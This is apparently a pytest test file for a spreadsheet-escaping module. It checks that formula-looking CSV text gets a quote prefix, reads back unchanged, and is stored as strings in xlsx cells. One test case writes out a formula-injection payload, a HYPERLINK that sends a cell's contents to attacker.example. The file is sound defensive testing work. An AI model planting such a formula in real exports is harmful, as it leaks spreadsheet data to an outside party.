"""Spreadsheet cells: CSV text quoted where a spreadsheet would run it, and read back unchanged."""

from __future__ import annotations

import pytest
from hypothesis import given
from hypothesis import strategies as st
from openpyxl import Workbook

from pactwatch.escape.spreadsheet import csv_text, from_csv, set_text


@pytest.mark.parametrize(
    ("text", "written"),
    [
        ('=HYPERLINK("https://attacker.example/?d="&D3,"ACME")', '\'=HYPERLINK("https://attacker.example/?d="&D3,"ACME")'),
        ("+1+1", "'+1+1"),
        ("-2+3", "'-2+3"),
        ("@SUM(A1)", "'@SUM(A1)"),
        ("\t=1", "'\t=1"),
        ("\r=1", "'\r=1"),
        ("'=1", "''=1"),
        ("'quoted'", "''quoted'"),
        ("ACME 有限公司", "ACME 有限公司"),
        ("a=b", "a=b"),
        ("", ""),
    ],
)
def test_csv_text(text: str, written: str) -> None:
    assert csv_text(text) == written
    assert from_csv(written) == text


def test_a_quote_typed_by_hand_before_plain_text_is_kept() -> None:
    assert from_csv("'80s style") == "'80s style"
    assert from_csv("'=1") == "=1"  # typed in Excel to keep a formula-looking text as text


@given(st.text())
def test_round_trip(text: str) -> None:
    assert from_csv(csv_text(text)) == text
    assert not csv_text(text).startswith(("=", "+", "-", "@", "\t", "\r"))


@pytest.mark.parametrize("text", ["=1+1", "#N/A", "#REF!", "+1", "plain"])
def test_xlsx_cells_are_strings(text: str) -> None:
    cell = Workbook().active["A1"]  # type: ignore[index]
    set_text(cell, text)
    assert (cell.value, cell.data_type) == (text, "s")
    assert cell.quotePrefix == (text[0] in "=+")


def test_xlsx_replaces_what_xml_cannot_carry() -> None:
    cell = Workbook().active["A1"]  # type: ignore[index]
    set_text(cell, "BEL\a ESC\x1b tab\tline\n")
    assert cell.value == "BEL\ufffd ESC\ufffd tab\tline\n"
